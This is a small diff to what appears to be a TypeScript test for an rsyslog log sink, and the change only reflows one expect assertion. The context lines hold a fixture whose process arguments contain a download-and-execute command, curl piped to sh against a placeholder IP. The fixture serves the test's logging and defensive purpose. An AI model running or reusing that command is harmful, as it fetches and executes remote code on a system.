@@ -38,7 +38,9 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
       object: object.replace("\n", "\\x0a"),
       "process.args": JSON.stringify(["sh", "-c", 'curl "http://203.0.113.9/x" | sh']),
     });
-    expect(third?.msg).toMatch(/^\uFEFFshop\/checkout: checkout-policy goes from Enforcing to Quarantine: /);
+    expect(third?.msg).toMatch(
+      /^\uFEFFshop\/checkout: checkout-policy goes from Enforcing to Quarantine: /,
+    );
     await sink.close();
   });
 
